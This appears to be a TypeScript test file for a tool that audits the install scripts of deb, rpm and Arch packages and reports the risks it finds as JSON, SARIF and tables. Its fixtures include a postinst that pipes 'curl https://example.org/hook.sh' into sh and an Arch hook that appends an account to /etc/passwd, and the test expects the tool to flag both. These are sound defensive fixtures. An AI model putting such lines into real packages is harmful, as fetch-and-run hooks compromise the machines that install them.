import t from 'tap';
import { readFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Ajv } from 'ajv';
import addFormatsModule from 'ajv-formats';
import { buildAuditResult, type ScriptAssessment } from '../../src/audit/build-audit-result.js';
import type { Package, Scriptlet } from '../../src/formats/types.js';
import type { Verdict } from '../../src/policy/verdict.js';
import { renderJson } from '../../src/report/render-json.js';
import { renderSarif } from '../../src/report/render-sarif.js';
import { renderTable } from '../../src/report/render-table.js';
import { analyse } from '../../src/shell/analyse.js';
import { sarifSchema } from '../helpers/sarif-schema.js';

const addFormats = addFormatsModule as unknown as (ajv: Ajv) => Ajv;
const schemaFile = join(dirname(fileURLToPath(import.meta.url)), '..', '..', 'docs', 'audit-result.schema.json');

const debPostinst = `#!/bin/sh
set -e
if [ "$1" = "configure" ]; then
    curl -fsSL https://example.org/hook.sh | sh
fi
# Automatically added by dh_installsystemd/13.11.4
if [ "$1" = "configure" ] || [ "$1" = "abort-upgrade" ] || [ "$1" = "abort-deconfigure" ] || [ "$1" = "abort-remove" ] ; then
	# This will only remove masks created by d-s-h on package removal.
	deb-systemd-helper unmask 'demo.service' >/dev/null || true
fi
# End automatically added section
`;

const archInstall = `post_install() {
  echo "demo:x:990:990::/:/usr/bin/nologin" >> /etc/passwd
}
post_upgrade() {
  post_install
}
`;

function scriptlet(format: Scriptlet['format'], phase: Scriptlet['phase'], kind: Scriptlet['interpreter']['kind'], body: string, extra: Partial<Scriptlet> = {}): Scriptlet {
  const argv = kind === 'program' ? ['/sbin/ldconfig'] : kind === 'sh' ? ['/bin/sh'] : [];
  return { package: 'demo', format, phase, interpreter: { kind, argv }, body, origin: `test:${phase}`, ...extra };
}

function pkg(format: Package['format'], name: string, source: string, scriptlets: Scriptlet[]): Package {
  return { format, name, version: '1.0-1', arch: 'x86_64', depends: [], preDepends: [], provides: [], scriptlets: scriptlets.map((s) => ({ ...s, package: name })), source };
}

/** A verdict that defers scripts with risks and drops the others, naming one test rule. */
function verdictFor(s: Scriptlet, deferIt: boolean): Verdict {
  const rule = { id: deferIt ? 'test-defer' : 'test-drop', policy: 'test', file: 'test.json5' };
  const outcome = deferIt ? 'defer' : 'drop';
  return {
    package: s.package,
    format: s.format,
    phase: s.phase,
    ...(s.entry !== undefined ? { entry: s.entry } : {}),
    outcome,
    rule,
    reason: deferIt ? 'has risks' : 'nothing to do',
    parts: [{ part: { kind: 'script' }, outcome, rule, reason: 'test', actions: [] }],
    actions: [],
  };
}

t.test('real analyses fit the audit schema and SARIF', async (t) => {
  const packages = [
    pkg('deb', 'demo', '/srv/demo_1.0-1_amd64.deb', [
      scriptlet('deb', 'postinst', 'sh', debPostinst),
      scriptlet('deb', 'triggers', 'deb-triggers', 'activate-noawait ldconfig\ninterest /usr/share/icons\n'),
      scriptlet('deb', 'preinst', 'sh', 'if [ "$1" = install ]; then\n  echo (\nfi\n'),
    ]),
    pkg('rpm', 'demo-libs', '/srv/demo-libs-1.0-1.x86_64.rpm', [
      scriptlet('rpm', 'post', 'program', ''),
      scriptlet('rpm', 'sysusers', 'sysusers', 'g demo 990\nu demo 990 "Demo" /var/lib/demo\n'),
    ]),
    pkg('arch', 'demo-arch', '/srv/demo-arch-1.0-1-x86_64.pkg.tar.zst', [
      scriptlet('arch', 'post_install', 'sh', archInstall, { entry: 'post_install' }),
      scriptlet('arch', 'post_upgrade', 'sh', archInstall, { entry: 'post_upgrade' }),
    ]),
  ];
  const assessments = new Map<Scriptlet, ScriptAssessment>();
  for (const p of packages) {
    for (const s of p.scriptlets) {
      const analysis = await analyse(s);
      assessments.set(s, { analysis, verdict: verdictFor(s, analysis.parseError !== undefined || analysis.commands.some((c) => c.piped || c.redirects.length > 0)) });
    }
  }
  const result = buildAuditResult(packages, assessments);

  const ajv = new Ajv({ allErrors: true, strict: false });
  addFormats(ajv);
  const validateAudit = ajv.compile(JSON.parse(readFileSync(schemaFile, 'utf8')) as object);
  t.ok(validateAudit(JSON.parse(renderJson(result))), JSON.stringify(validateAudit.errors));
  const validateSarif = ajv.compile(await sarifSchema());
  t.ok(validateSarif(JSON.parse(renderSarif(result, { baseDir: '/srv' }))), JSON.stringify(validateSarif.errors));
  t.ok(renderTable(result, { width: 100 }).includes('Summary: 3 packages, 7 scripts'));

  const demo = result.packages.find((p) => p.name === 'demo')!;
  const postinst = demo.scripts.find((s) => s.phase === 'postinst')!;
  t.same(postinst.risks.map((r) => `${r.kind}@${r.line}`), ['network@4', 'download-exec@4']);
  t.ok(postinst.segments.some((s) => s.kind === 'debhelper'), 'debhelper segment kept');
  t.match(postinst.commands.find((c) => c.name === 'curl')!.guards, /configure/);
  t.ok(demo.scripts.find((s) => s.phase === 'preinst')!.parseError, 'broken script reported');
  const arch = result.packages.find((p) => p.name === 'demo-arch')!;
  t.same(
    arch.scripts.map((s) => [s.entry, s.risks.map((r) => `${r.kind}/${r.severity}@${r.line}`)]),
    [
      ['post_install', ['passwd-parsing/high@2']],
      ['post_upgrade', ['passwd-parsing/high@2']],
    ],
  );
});
